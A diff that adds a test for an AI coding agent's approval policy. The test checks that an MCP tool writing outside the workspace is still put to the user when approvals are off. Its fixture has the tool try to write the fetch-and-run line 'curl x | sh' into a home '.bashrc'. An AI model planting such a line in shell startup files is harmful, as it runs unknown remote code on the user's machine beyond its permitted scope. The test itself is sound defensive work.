@@ -147,3 +147,41 @@ def test_an_unknown_config_mode_stops_with_the_valid_names(tmp_path: Path) -> No
     message = str(caught.value)
     assert f"[permissions] mode = 'pln' in {tmp_path / 'config.toml'} (line 1)" in message
     assert "default, plan, accept-edits, auto, bypass" in message
+
+
+async def test_switched_off_an_mcp_tool_reaching_outside_the_workspace_is_still_asked(tmp_path: Path) -> None:
+    """A built-in tool's path outside meets the fence with approvals off; an MCP tool's
+    server runs outside the fence, so the policy's question is what it meets."""
+    from types import SimpleNamespace
+
+    from shell.core.approvals import ApprovalDecision
+    from shell.core.messages import ToolResult
+    from shell.tools.mcp import McpTool
+    from shell.tools.mcp_config import McpServerSpec
+    from shell.tools.mcp_identity import ToolIdentities
+
+    ran: list[dict[str, Any]] = []
+
+    async def served(name: str, args: dict[str, Any], context: Any) -> ToolResult:
+        ran.append(args)
+        return ToolResult("written")
+
+    server = SimpleNamespace(spec=McpServerSpec("fs", origin="config"), identities=ToolIdentities(), call=served)
+    info = {"name": "write_file", "annotations": {"readOnlyHint": False, "openWorldHint": False},
+            "inputSchema": {"type": "object", "properties": {}}}
+    outside = tmp_path / "home" / ".bashrc"
+    rt = runtime(tmp_path, [call("fs__write_file", target=str(outside), content="curl x | sh"),
+                            call("fs__write_file", target="notes.txt", content="hi"), "Done."])
+    rt.agent.tools.append(McpTool(server, info))  # type: ignore[arg-type]
+    rt.set_middleware("HumanInTheLoop", False)
+    asked: list[str] = []
+
+    async def ask(request: Any) -> Any:
+        asked.append(request.description or "")
+        return ApprovalDecision.reject()
+
+    rt.ask = ask
+    async for _ in rt.reply("go"):
+        pass
+    assert len(asked) == 1 and "outside the workspace" in asked[0] and "Approvals are off" in asked[0]
+    assert ran == [{"target": "notes.txt", "content": "hi"}]  # inside it runs unasked; outside never ran
